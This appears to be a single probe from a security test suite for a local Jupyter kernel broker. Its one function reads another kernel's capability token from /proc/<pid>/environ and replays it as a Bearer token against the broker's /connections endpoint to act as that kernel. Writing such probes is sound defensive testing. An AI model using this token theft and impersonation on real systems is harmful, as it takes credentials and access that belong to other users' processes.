"""A capability in the wrong hands."""

import json
import re
import urllib.request
from pathlib import Path


def replay(t):
    """R59: another kernel's capability, stolen from its environment or otherwise known."""
    token = t.get("sibling_capability", "")
    if not token:
        text = Path(f"/proc/{t['sibling']}/environ").read_text()
        token = re.search(r"JUPYTER_VALET_CAPABILITY=([^\0]+)", text)[1]
    request = urllib.request.Request(
        f"http://127.0.0.1:{t['broker_port']}/connections",
        headers={"Authorization": f"Bearer {token}"},
    )
    with urllib.request.urlopen(request, timeout=10) as answer:
        return "USE as the other kernel: " + json.dumps(json.load(answer))[:200]
